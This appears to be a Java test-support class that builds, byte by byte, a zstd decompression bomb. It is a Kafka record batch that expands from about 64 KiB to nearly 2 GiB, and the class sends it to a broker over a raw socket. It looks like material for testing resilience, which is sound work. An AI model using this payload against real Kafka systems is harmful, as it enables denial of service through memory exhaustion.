package org.reunify.app.support;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.List;
import org.apache.kafka.common.message.ProduceRequestData;
import org.apache.kafka.common.protocol.ApiKeys;
import org.apache.kafka.common.protocol.Errors;
import org.apache.kafka.common.record.internal.MemoryRecords;
import org.apache.kafka.common.requests.AbstractResponse;
import org.apache.kafka.common.requests.ProduceRequest;
import org.apache.kafka.common.requests.ProduceResponse;
import org.apache.kafka.common.requests.RequestHeader;
import org.apache.kafka.common.utils.Crc32C;

/**
 * A zstd decompression bomb as a client nobody here wrote can send it: one record batch, built byte by byte, holding
 * one record whose value is almost 2 GiB of zeros, compressed to 64 KiB with zstd's run-length blocks. No Kafka
 * producer takes a record of 2 GiB, so it goes in a produce request of its own, over a socket, as any client's bytes
 * would.
 */
public final class ZstdBomb {

    /** The value's size once decompressed: as large as a record can be. */
    public static final int VALUE_BYTES = Integer.MAX_VALUE - 64;

    private static final int ZSTD_MAGIC = 0xFD2FB528;
    /** A frame with no declared content size and a 128 KiB window, the largest block zstd allows. */
    private static final int WINDOW_DESCRIPTOR = 7 << 3;

    private static final int MAX_BLOCK = 128 * 1024;
    private static final short ZSTD_ATTRIBUTE = 4;
    private static final short PRODUCE_VERSION = 8;

    private ZstdBomb() {}

    /** The compressed batch, for its size on the wire. */
    public static ByteBuffer batch(byte[] key) {
        return recordBatch(key, System.currentTimeMillis());
    }

    /**
     * Sends the bomb to partition 0 of {@code topic} with acks=all on a plaintext listener.
     *
     * @return the broker's error for the partition, {@link Errors#NONE} if it appended the record
     */
    public static Errors send(String hostPort, String topic, byte[] key) throws IOException {
        ProduceRequestData data = new ProduceRequestData()
                .setAcks((short) -1)
                .setTimeoutMs(30_000)
                .setTopicData(new ProduceRequestData.TopicProduceDataCollection(List.of(
                                new ProduceRequestData.TopicProduceData()
                                        .setName(topic)
                                        .setPartitionData(List.of(new ProduceRequestData.PartitionProduceData()
                                                .setIndex(0)
                                                .setRecords(MemoryRecords.readableRecords(batch(key))))))
                        .iterator()));
        RequestHeader header = new RequestHeader(ApiKeys.PRODUCE, PRODUCE_VERSION, "zstd-bomb", 1);
        ByteBuffer request = ProduceRequest.builder(data).build(PRODUCE_VERSION).serializeWithHeader(header);
        String[] address = hostPort.split(":");
        try (Socket socket = new Socket(address[0], Integer.parseInt(address[1]))) {
            socket.setSoTimeout(60_000);
            DataOutputStream out = new DataOutputStream(socket.getOutputStream());
            out.writeInt(request.remaining());
            out.write(request.array(), request.arrayOffset() + request.position(), request.remaining());
            out.flush();
            DataInputStream in = new DataInputStream(socket.getInputStream());
            byte[] response = new byte[in.readInt()];
            in.readFully(response);
            ProduceResponse produced =
                    (ProduceResponse) AbstractResponse.parseResponse(ByteBuffer.wrap(response), header);
            return Errors.forCode(produced.data()
                    .responses()
                    .iterator()
                    .next()
                    .partitionResponses()
                    .get(0)
                    .errorCode());
        }
    }

    /** A v2 record batch of one record, its records section compressed with zstd. */
    private static ByteBuffer recordBatch(byte[] key, long timestamp) {
        byte[] records = zstdFrame(recordBefore(key), VALUE_BYTES, varint(0));
        ByteBuffer batch = ByteBuffer.allocate(61 + records.length);
        batch.putLong(0) // base offset
                .putInt(61 - 12 + records.length) // batch length, from the leader epoch on
                .putInt(-1) // partition leader epoch
                .put((byte) 2) // magic
                .putInt(0) // CRC-32C, filled in below
                .putShort(ZSTD_ATTRIBUTE)
                .putInt(0) // last offset delta
                .putLong(timestamp) // base timestamp
                .putLong(timestamp) // max timestamp
                .putLong(-1) // producer id
                .putShort((short) -1) // producer epoch
                .putInt(-1) // base sequence
                .putInt(1) // records
                .put(records);
        batch.putInt(17, (int) Crc32C.compute(batch.array(), 21, batch.capacity() - 21));
        batch.flip();
        return batch;
    }

    /** The record up to its value's bytes: its length, attributes, deltas, key and the value's length. */
    private static byte[] recordBefore(byte[] key) {
        ByteArrayOutputStream fields = new ByteArrayOutputStream();
        fields.write(0); // attributes
        fields.writeBytes(varint(0)); // timestamp delta
        fields.writeBytes(varint(0)); // offset delta
        fields.writeBytes(varint(key.length));
        fields.writeBytes(key);
        fields.writeBytes(varint(VALUE_BYTES));
        byte[] before = fields.toByteArray();
        long body = (long) before.length + VALUE_BYTES + varint(0).length;
        ByteArrayOutputStream record = new ByteArrayOutputStream();
        record.writeBytes(varint(Math.toIntExact(body)));
        record.writeBytes(before);
        return record.toByteArray();
    }

    /** A zstd frame of raw bytes, then {@code zeros} zero bytes as run-length blocks, then raw bytes. */
    private static byte[] zstdFrame(byte[] before, long zeros, byte[] after) {
        ByteArrayOutputStream frame = new ByteArrayOutputStream();
        frame.writeBytes(ByteBuffer.allocate(4)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(ZSTD_MAGIC)
                .array());
        frame.write(0); // frame header descriptor: no content size, no checksum, no dictionary
        frame.write(WINDOW_DESCRIPTOR);
        rawBlock(frame, before, false);
        for (long left = zeros; left > 0; left -= MAX_BLOCK) {
            blockHeader(frame, false, 1, (int) Math.min(MAX_BLOCK, left));
            frame.write(0);
        }
        rawBlock(frame, after, true);
        return frame.toByteArray();
    }

    private static void rawBlock(ByteArrayOutputStream frame, byte[] bytes, boolean last) {
        blockHeader(frame, last, 0, bytes.length);
        frame.writeBytes(bytes);
    }

    /** Three bytes, little-endian: last-block bit, block type (0 raw, 1 run-length), block size. */
    private static void blockHeader(ByteArrayOutputStream frame, boolean last, int type, int size) {
        int header = (last ? 1 : 0) | type << 1 | size << 3;
        frame.write(header);
        frame.write(header >>> 8);
        frame.write(header >>> 16);
    }

    /** Kafka's zig-zag variable-length int. */
    private static byte[] varint(int value) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int zigzag = (value << 1) ^ (value >> 31);
        while ((zigzag & ~0x7F) != 0) {
            out.write((zigzag & 0x7F) | 0x80);
            zigzag >>>= 7;
        }
        out.write(zigzag);
        return out.toByteArray();
    }
}
